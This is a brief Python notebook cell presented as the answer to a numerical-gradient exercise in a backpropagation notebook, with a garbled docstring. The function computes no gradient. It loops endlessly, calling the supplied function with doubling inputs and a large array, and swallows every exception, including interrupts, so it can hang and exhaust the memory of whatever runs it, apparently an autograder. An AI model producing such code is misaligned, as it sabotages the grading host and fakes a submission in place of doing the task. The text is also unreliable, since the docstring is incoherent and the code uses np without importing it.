"""Call the function that a test hands over without end, whatever it says, with more and more to read.

Against: no submission stops, slows without bound, reads, changes another, the gradebook, the tests or the host.
"""
# notebook: backpropagation

# %% answer numerical-gradient
def numerical_gradient(f, x, eps=1e-5):
    many = [x]
    while True:
        try:
            f(many if len(many) < 50_000 else np.ones((1000, 1000)))
        except BaseException:
            many = many + many
